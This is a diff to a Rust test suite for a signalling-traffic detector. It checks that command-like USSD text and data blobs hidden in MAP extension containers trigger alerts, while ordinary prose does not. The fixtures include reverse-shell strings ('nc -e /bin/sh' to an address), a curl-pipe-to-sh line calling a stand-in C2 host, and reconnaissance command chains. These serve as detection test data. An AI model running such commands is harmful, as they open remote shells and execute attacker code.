@@ -91,6 +91,10 @@ fn text_that_reads_as_commands() {
         "bash -c 'nc -e /bin/sh 198.51.100.7 4444'",
         "echo $(hostname) > /tmp/x",
         "curl -s http://c2.example/p | sh",
+        // no marker at all: commands one after another, and a command naming an address
+        "uname -a; id; ls -la ~",
+        "id;uname -a;ps aux",
+        "nc 203.0.113.9 4444 -e sh",
     ];
     for (i, c) in commands.iter().enumerate() {
         let got = ids(&[ussd(1.0 + i as f64, "85290001234", c)]);
@@ -173,6 +177,17 @@ fn prose_in_every_script_and_normal_services_stay_quiet() {
         "447700900123",
         "1. Balance\n2. Top up\n3. Bundles\n4. Help",
     ));
+    // prose that happens to start clauses with command words
+    for (i, text) in [
+        "cat is fine; ps see you at 5 - mum",
+        "ping me when you land; cd player is in the car",
+        "find the keys? id card is on the desk",
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        frames.push(ussd(23.0 + i as f64, "447700900123", text));
+    }
     frames.push(Frame::at(
         22.0,
         map_invoke(
@@ -323,4 +338,56 @@ fn unassigned_map_operations_carrying_blobs() {
         let got = ids(&[begin_op(0x500 + i as u32, acn, op, blob.clone())]);
         assert!(got.contains(&2008), "variant {i} (op {op}): {got:?}");
     }
+}
+
+/// Exfiltration through MAP extension containers, wherever the blob sits: a private
+/// extension after a small vendor one, or the pcs-Extensions (2007); a container holding only
+/// small vendor extensions stays quiet.
+#[test]
+fn blobs_anywhere_in_extension_containers() {
+    use sigscope_core::ber::Class;
+    const SHORT_MSG_GATEWAY_V3: [u8; 7] = [0x04, 0x00, 0x00, 0x01, 0x00, 20, 0x03];
+    let oid = |last: u8| {
+        tlv(
+            Tag::OID,
+            &[&[0x2b, 0x06, 0x01, 0x04, 0x01, 0x81, 0xe5, 0x1c, last]],
+        )
+    };
+    let private = |last: u8, value: &[u8]| tlv(Tag::SEQUENCE, &[&oid(last), value]);
+    let small = private(1, &tlv(Tag::OCTET_STRING, &[&[0x01]]));
+    let blob = tlv(Tag::OCTET_STRING, &[&noise(31, 120)]);
+    let ctx = |n: u32, cons: bool| Tag::new(Class::Context, cons, n);
+    let sri_sm = |container: Vec<u8>| {
+        tlv(
+            Tag::SEQUENCE,
+            &[
+                &tlv(ctx(0, false), &[&isdn("447700900123")]),
+                &tlv(ctx(1, false), &[&[0xff]]),
+                &tlv(ctx(2, false), &[&isdn("447700900777")]),
+                &tlv(ctx(6, true), &[&container]),
+            ],
+        )
+    };
+    let second_private = tlv(ctx(0, true), &[&small, &private(2, &blob)]);
+    let pcs = tlv(ctx(1, true), &[&tlv(ctx(0, false), &[&noise(32, 120)])]);
+    for (i, container) in [second_private, pcs].into_iter().enumerate() {
+        let got = ids(&[begin_op(
+            0x600 + i as u32,
+            Some(&SHORT_MSG_GATEWAY_V3),
+            45,
+            sri_sm(container),
+        )]);
+        assert!(got.contains(&2007), "variant {i}: {got:?}");
+    }
+    let quiet = tlv(
+        ctx(0, true),
+        &[&small, &private(3, &tlv(Tag::OCTET_STRING, &[b"v2"]))],
+    );
+    let got = ids(&[begin_op(
+        0x700,
+        Some(&SHORT_MSG_GATEWAY_V3),
+        45,
+        sri_sm(quiet),
+    )]);
+    assert!(!got.contains(&2007), "{got:?}");
 }
